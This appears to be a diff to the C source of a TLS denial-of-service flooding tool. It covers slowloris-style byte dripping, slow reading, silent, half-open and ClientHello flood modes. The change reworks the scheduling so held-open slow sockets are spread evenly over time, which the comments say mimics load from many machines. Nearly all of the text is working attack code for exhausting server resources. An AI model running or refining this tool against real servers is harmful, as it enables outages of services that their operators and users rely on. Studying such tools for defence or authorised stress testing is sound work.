@@ -20,21 +20,23 @@
 
 /*
  * One event loop over all sockets. A ClientHello is made once and sent by all:
- * an attacker does not compute, only the server does.
+ * an attacker does not compute, only the server does. Slow sockets come one
+ * after the other, each has its turn once a second, and comes again only then:
+ * what they cost is spread evenly, as it is among many machines.
  */
 
 enum {
 	EVENTS = 256,
-	TICK = 10, /* ms, in which a part of the sockets has its turn */
-	PARTS = 100,
+	TICK = 1, /* ms, in which a part of the sockets has its turn */
+	PARTS = 1000,
 	WINDOW = 4096, /* bytes of the receive buffer of a slow reader */
-	SLOWLY = 2048, /* bytes a tick */
+	SLOWLY = 2048, /* bytes a turn */
 	HELLO_MAX = 4096,
 	ADDRESS = 250, /* values of a byte of an address */
 };
 
 struct place {
-	int fd;
+	int fd; /* 0: to be opened */
 	SSL *tls;
 	size_t dripped; /* bytes of the request */
 	bool connected;
@@ -83,6 +85,13 @@ is_client(const struct flood *flood)
 	return flood->offence == FLOOD_DRIP || flood->offence == FLOOD_SLOW;
 }
 
+static bool
+is_slow(const struct flood *flood)
+{
+	return flood->offence == FLOOD_SILENT || flood->offence == FLOOD_HALF ||
+	    is_client(flood);
+}
+
 static void
 open_place(struct field *field, size_t at)
 {
@@ -115,7 +124,9 @@ open_again(struct field *field, size_t at)
 	SSL_free(place->tls);
 	setsockopt(place->fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
 	close(place->fd);
-	open_place(field, at);
+	*place = (struct place){0};
+	if (!is_slow(field->flood))
+		open_place(field, at);
 }
 
 /* The connection stands: says hello, or begins a handshake of its own. */
@@ -196,26 +207,40 @@ handle(struct field *field, const struct epoll_event *event)
 		open_again(field, at);
 }
 
+/* A byte of the request, or a little of the answer. */
 static void
-tick(struct field *field, size_t part)
+drip(struct field *field, size_t at)
 {
 	const struct flood *flood = field->flood;
+	struct place *place = &field->places[at];
+	char bytes[SLOWLY];
+	const char *next =
+	    flood->request + place->dripped % strlen(flood->request);
 
-	for (size_t i = part; is_client(flood) && i < flood->sockets;
-	     i += PARTS) {
-		struct place *place = &field->places[i];
-		char bytes[SLOWLY];
-		if (!place->tls || !SSL_is_init_finished(place->tls))
-			continue;
-		bool gone = flood->offence == FLOOD_SLOW
-		    ? recv(place->fd, bytes, sizeof(bytes), 0) == 0
-		    : SSL_write(place->tls,
-			  flood->request +
-			      place->dripped++ % strlen(flood->request),
-			  1) <= 0;
-		if (gone)
-			open_again(field, i);
-	}
+	if (!place->tls || !SSL_is_init_finished(place->tls))
+		return;
+	bool gone = flood->offence == FLOOD_SLOW
+	    ? recv(place->fd, bytes, sizeof(bytes), 0) == 0
+	    : SSL_write(place->tls, next, 1) <= 0;
+	place->dripped++;
+	if (gone)
+		open_again(field, at);
+}
+
+/* The turn of a part of the slow sockets; one that is new comes. */
+static void
+tick(struct field *field, size_t number)
+{
+	size_t came =
+	    number < field->flood->sockets ? number : field->flood->sockets;
+
+	for (size_t i = number % PARTS; i < came; i += PARTS)
+		if (field->places[i].fd == 0)
+			open_place(field, i);
+		else if (is_client(field->flood))
+			drip(field, i);
+	if (number < field->flood->sockets)
+		open_place(field, number);
 }
 
 static _Noreturn void
@@ -223,18 +248,16 @@ run(struct field *field)
 {
 	struct epoll_event events[EVENTS];
 	int64_t due = clock_monotonic() + TICK;
-	size_t part = 0;
+	bool slow = is_slow(field->flood);
 
-	for (size_t i = 0; i < field->flood->sockets; i++)
+	for (size_t i = 0; !slow && i < field->flood->sockets; i++)
 		open_place(field, i);
-	for (;;) {
+	for (size_t number = 0;;) {
 		int count = epoll_wait(field->poller, events, EVENTS, TICK);
 		for (int i = 0; i < count; i++)
 			handle(field, &events[i]);
-		if (clock_monotonic() < due)
-			continue;
-		tick(field, part++ % PARTS);
-		due += TICK;
+		for (; slow && clock_monotonic() >= due; due += TICK)
+			tick(field, number++);
 	}
 }
 
